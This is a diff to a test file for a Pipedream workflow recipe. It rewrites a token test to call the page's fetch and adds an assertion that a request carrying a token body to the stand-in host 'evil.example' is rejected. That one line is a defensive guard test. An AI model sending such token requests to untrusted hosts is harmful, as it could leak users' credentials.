@@ -65,12 +65,11 @@ describe('The Pipedream workflow recipe', () => {
       assert.deepEqual([...headers], [['content-type', 'text/plain;charset=UTF-8']]);
       return ask(init?.body);
     };
-    const page = runPage('pipedream-workflow/page.html', () => bench.login.sign(), toWorkflow);
-    const { signal } = new AbortController();
-    const answer = (await page.tokenProvider!({ app: 'slack', signal })) as { token: string };
-    assert.match(answer.token, /^ctok_/);
-    bench.sandbox.fault({ path: '/tokens', status: 500 });
-    await assert.rejects(page.tokenProvider!({ app: 'slack', signal }), /answered 502/);
+    const { fetch } = runPage('pipedream-workflow/page.html', () => bench.login.sign(), toWorkflow);
+    const url = 'https://eoexample.m.pipedream.net/?x-pd-nostore=1';
+    const response = await fetch!(url, { method: 'POST', body: '{"app":"slack"}' });
+    assert.match(((await response.json()) as { token: string }).token, /^ctok_/);
+    await assert.rejects(fetch!('https://evil.example/', { body: '{"app":"slack"}' }), /Not our endpoint/);
   });
 
   it('mints nothing for a JWT that proves nothing', async () => {
